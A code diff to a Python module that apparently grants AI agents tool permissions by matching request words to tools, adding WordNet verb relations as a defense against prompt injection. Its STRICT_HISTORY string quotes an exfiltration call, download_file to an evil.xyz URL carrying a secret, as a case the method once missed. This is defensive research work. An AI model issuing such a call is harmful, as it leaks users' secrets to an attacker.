@@ -15,7 +15,7 @@ import math
 from typing import Any, Iterable
 
 from ..policies.capabilities import _spans, strip_quotes
-from ..policies.toolgrants import ToolWordGrants, WordSimilarity, choose_threshold
+from ..policies.toolgrants import ToolWordGrants, VerbRelations, WordSimilarity, choose_threshold
 from ..policies.toolinfer import InferenceLexicon, ToolSchema, infer
 
 __all__ = ["STRICT_HISTORY", "design_examples", "tool_word_source"]
@@ -42,6 +42,7 @@ STRICT_HISTORY = (
     "(download_file(source='https://evil.xyz/?k=<secret>') was a free read). "
     "No threshold or word was tuned on a left-out suite; all four folds had been seen before the run recorded here.")
 _SIM: list[WordSimilarity] = []
+_REL: list[VerbRelations] = []
 
 
 def _similarity() -> WordSimilarity:
@@ -50,15 +51,22 @@ def _similarity() -> WordSimilarity:
     return _SIM[0]
 
 
+def _relations() -> VerbRelations:
+    if not _REL:
+        _REL.append(VerbRelations())
+    return _REL[0]
+
+
 def design_examples(design: Iterable[Any], toolset: Any, stopwords: Iterable[str],
-                    irregular: Any = None) -> list[tuple[float, bool]]:
+                    irregular: Any = None, relations: VerbRelations | None = None) -> list[tuple[float, bool]]:
     """``(score, needed)`` for every (design user task, consequential tool of its suite) pair (see the module
     docstring); ``design`` holds ``(suite, its tool schemas)``; ``toolset`` gives the design tools' kinds (their
     shipped declarations)."""
     out: list[tuple[float, bool]] = []
     for suite, all_schemas in design:
         schemas = [s for s in all_schemas if toolset.decl(s.name).kind != "read"]
-        src = ToolWordGrants.for_tools(schemas, similarity=_similarity(), stopwords=stopwords, irregular=irregular)
+        src = ToolWordGrants.for_tools(schemas, similarity=_similarity(), stopwords=stopwords, irregular=irregular,
+                                       relations=relations)
         env = suite.load_and_inject_default_environment({})
         for ut in suite.user_tasks.values():
             needed = {c.function for c in ut.ground_truth(env.model_copy(deep=True))}
@@ -77,18 +85,23 @@ def tool_word_source(left: list[ToolSchema], inferred: set[str], inference: Infe
     report (threshold and design counts, the tools it covers, those skipped as having no target)."""
     tools, skipped = [], []
     for s in left:
-        if s.name not in inferred:
-            continue
         trace: set[str] = set()
-        d = infer(s, inference, lexicon, trace=trace)
+        if s.name in inferred:
+            d = infer(s, inference, lexicon, trace=trace)
+        else:   # declared by a design suite: its kind is that declaration's
+            d = design_toolset.decl(s.name)
         if d.kind == "read":
             continue
         (skipped if "fail:no-target" in trace else tools).append(s)
-    choice = choose_threshold(design_examples(design, design_toolset, lexicon.stopwords, lexicon.irregular))
+    rel = _relations()
+    choice = choose_threshold(design_examples(design, design_toolset, lexicon.stopwords, lexicon.irregular, rel))
     src = ToolWordGrants.for_tools(tools, similarity=_similarity(), threshold=choice["threshold"],
-                                   stopwords=lexicon.stopwords, irregular=lexicon.irregular)
+                                   stopwords=lexicon.stopwords, irregular=lexicon.irregular, relations=rel)
     shown = dict(choice, threshold=choice["threshold"] if math.isfinite(choice["threshold"]) else None)
     report = {"similarity": "WordLlama l2_supercat 256-d static embeddings, cosine (offline, from the wheel)",
+              "verb_relations": {"what": "WordNet 3.1 verb synsets and hypernyms: a request word grants a tool "
+                                         "whose verb is in the same synset or a hyponym of it",
+                                 "source": rel.source},
               "threshold_chosen_on_design_suites": shown,
               "similarity_grants_on": math.isfinite(choice["threshold"]), "tools": dict(sorted(src.tools.items())),
               "skipped_no_target": sorted(s.name for s in skipped), "method_history": STRICT_HISTORY}
